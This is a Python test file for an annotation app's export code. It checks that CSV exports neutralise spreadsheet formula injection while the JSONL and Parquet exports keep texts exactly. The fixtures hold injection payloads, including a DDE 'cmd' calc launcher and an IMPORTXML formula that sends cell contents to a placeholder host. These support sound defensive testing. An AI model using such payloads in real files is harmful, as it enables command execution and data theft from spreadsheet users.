"""CSV exports neutralise spreadsheet formulas (a leading ' on texts starting with = + - @ tab CR);
JSONL and Parquet keep every text exactly; numbers stay numbers (negative scores included)."""

import csv
import io
import json

import pyarrow.parquet as pq
from sqlalchemy import select

from app.models import Assignment, Continuation, Prompt, Rating, Task, User, utcnow
from app.services import exports
from app.services.tasks import build_rating_batch
from tests.factories import judge_directly, seed_bws_batch

VERSION = "=version()"
PROMPT = "=HYPERLINK(\"http://example.invalid\", \"click\")"
TEXTS = ["=1+1 a story", "+cmd|' /C calc'!A0", "-2+3 and so on", "@SUM(A1:A9)", "\tindented", "\rreturned"]
COMMENT = "=IMPORTXML(CONCAT(\"http://example.invalid/?\", A1), \"//a\")"


def _seed(database) -> None:
    seed_bws_batch(database, prompts=1, per_prompt=6, required=2)
    with database.write() as db:
        db.scalar(select(Prompt)).text = PROMPT
        continuations = db.scalars(select(Continuation).order_by(Continuation.id)).all()
        for continuation, text in zip(continuations, TEXTS):
            continuation.text = text
        continuations[0].model_version.name = VERSION
        rating_task = build_rating_batch(db, "ratings", [continuations[0].id], required=1)
        task = db.scalar(select(Task).where(Task.batch_id == rating_task.id))
        user = User(username="rater", password_hash="x", role="evaluator")
        db.add(user)
        db.flush()
        assignment = Assignment(task_id=task.id, user_id=user.id, item_order=[continuations[0].id], status="submitted",
                                expires_at=utcnow())
        db.add(assignment)
        db.flush()
        db.add(Rating(assignment_id=assignment.id, task_id=task.id, user_id=user.id, continuation_id=continuations[0].id,
                      grammar=1, creativity=2, consistency=3, plot=4, comment=COMMENT, idempotency_key="r-1"))
    judge_directly(database, "ann1")
    judge_directly(database, "ann2")


def _rows(database, name: str, fmt: str) -> list[dict]:
    content = b"".join(exports.stream_export(database, name, fmt))
    if fmt == "jsonl":
        return [json.loads(line) for line in content.decode().splitlines()]
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    return pq.read_table(io.BytesIO(content)).to_pylist()


def test_csv_neutralises_formulas_and_the_other_formats_keep_texts(database):
    _seed(database)
    for fmt in ("jsonl", "parquet"):
        scores = _rows(database, "scores", fmt)
        assert sorted(r["text"] for r in scores) == sorted(TEXTS)
        assert VERSION in {r["model_version"] for r in scores}
        assert [r["comment"] for r in _rows(database, "ratings", fmt)] == [COMMENT]
        assert {r["model_version"] for r in _rows(database, "ratings", fmt)} == {VERSION}
        pairs = _rows(database, "pairs", fmt)
        assert {r["prompt"] for r in pairs} == {PROMPT}
        assert VERSION in {r["chosen_model_version"] for r in pairs} | {r["rejected_model_version"] for r in pairs}

    scores = _rows(database, "scores", "csv")
    assert sorted(r["text"] for r in scores) == sorted("'" + t for t in TEXTS)
    assert {r["model_version"] for r in scores} == {"'" + VERSION}
    ratings = _rows(database, "ratings", "csv")
    assert [r["comment"] for r in ratings] == ["'" + COMMENT]
    assert [r["model_version"] for r in ratings] == ["'" + VERSION]
    assert [(r["grammar"], r["plot"]) for r in ratings] == [("1", "4")]
    pairs = _rows(database, "pairs", "csv")
    assert {r["prompt"] for r in pairs} == {"'" + PROMPT}
    assert "'" + VERSION in {r["chosen_model_version"] for r in pairs} | {r["rejected_model_version"] for r in pairs}

    # Numbers stay numbers: centred Bradley-Terry and counting scores go negative, and no ' is added.
    negative = [r for r in scores if r["counting_score"].startswith("-")]
    assert negative, "the seeded judgements should give some continuation a negative counting score"
    for row in scores:
        for column in ("counting_score", "bt_score", "appearances", "best", "worst"):
            if row[column]:
                float(row[column])
    for row in pairs:
        assert float(row["score_margin"]) >= 0


def test_csv_cell_rules():
    cell = exports._csv_cell
    assert [cell(v) for v in ("=x", "+x", "-x", "@x", "\tx", "\rx")] == ["'=x", "'+x", "'-x", "'@x", "'\tx", "'\rx"]
    assert [cell(v) for v in ("x=1", " =x", "", "'=x")] == ["x=1", " =x", "", "'=x"]
    assert [cell(v) for v in (-1.5, -3, 0, None, True, [1, -2])] == [-1.5, -3, 0, "", "true", "1 -2"]
